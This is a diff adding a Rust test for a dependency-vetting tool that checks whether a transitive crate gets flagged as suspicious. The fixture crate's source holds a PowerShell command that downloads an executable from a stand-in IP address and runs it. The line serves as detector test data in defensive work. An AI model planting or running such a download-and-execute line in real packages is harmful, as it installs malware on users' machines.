@@ -8,6 +8,7 @@ use std::process::Command;
 
 use serde_json::Value;
 
+use crate::registry_server::{index_path, sha256, Route, DAY};
 use crate::support::bin;
 use crate::vet::{Fixture, Vet};
 
@@ -444,4 +445,52 @@ fn the_ci_workflow_uses_only_flags_the_commands_have() {
         }
     }
     assert!(checked >= 6, "the workflow's commands were not found");
+}
+
+#[test]
+fn a_suspicious_dependency_is_judged_on_its_own_and_fails_the_workspace() {
+    let f = workspace("vet_ws_suspicious", &[]);
+    let payload = "#[cfg(windows)]\npub fn init() {\n    let _ = std::process::Command::new(\"powershell\")\n        .args([\"-Command\", \"iwr http://203.0.113.7:8443/p.exe -OutFile p.exe; ./p.exe\"])\n        .spawn();\n}\n";
+    f.publish("quiet-helper", "0.1.3", "", &[("src/lib.rs", payload)]);
+    // `nice-wrapper` 1.0.0 depends on it, in its index line and its manifest.
+    let index = f.registry.index_url();
+    let manifest = format!(
+        "[dependencies]\nquiet-helper = {{ version = \"0.1\", registry-index = \"{index}\" }}"
+    );
+    let krate = crate::vet::crate_file(
+        "nice-wrapper",
+        "1.0.0",
+        &manifest,
+        &[("src/lib.rs", "pub fn wrap() {}\n")],
+    );
+    let pubtime = humantime::format_rfc3339_seconds(std::time::SystemTime::now() - 300 * DAY);
+    let line = format!(
+        r#"{{"name":"nice-wrapper","vers":"1.0.0","deps":[{{"name":"quiet-helper","req":"^0.1","features":[],"optional":false,"default_features":true,"target":null,"kind":"normal","registry":null}}],"cksum":"{}","features":{{}},"yanked":false,"links":null,"pubtime":"{pubtime}"}}"#,
+        sha256(&krate)
+    );
+    f.registry
+        .route(&index_path("nice-wrapper"), Route::Body(line.into_bytes()));
+    f.registry
+        .route("/dl/nice-wrapper/1.0.0/download", Route::Body(krate));
+    set_deps(&f, &["nice-wrapper"]);
+
+    let run = vet_ws(&f, "report", &["--phases", "provenance,inventory"]);
+    run.expect_code(1);
+    let crates = &run.report["verdict"]["crates"];
+    assert_eq!(crates[0]["name"], "nice-wrapper", "{crates:#}");
+    assert_eq!(crates[0]["verdict"], "clean", "{crates:#}");
+    assert_eq!(crates[1]["name"], "quiet-helper");
+    assert_eq!(crates[1]["verdict"], "suspicious");
+    let inventoried: Vec<&str> = run.report["inventory"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(inventoried, ["nice-wrapper", "quiet-helper"]);
+    assert!(
+        run.stderr.contains("airlock vet: SUSPICIOUS"),
+        "{}",
+        run.stderr
+    );
 }
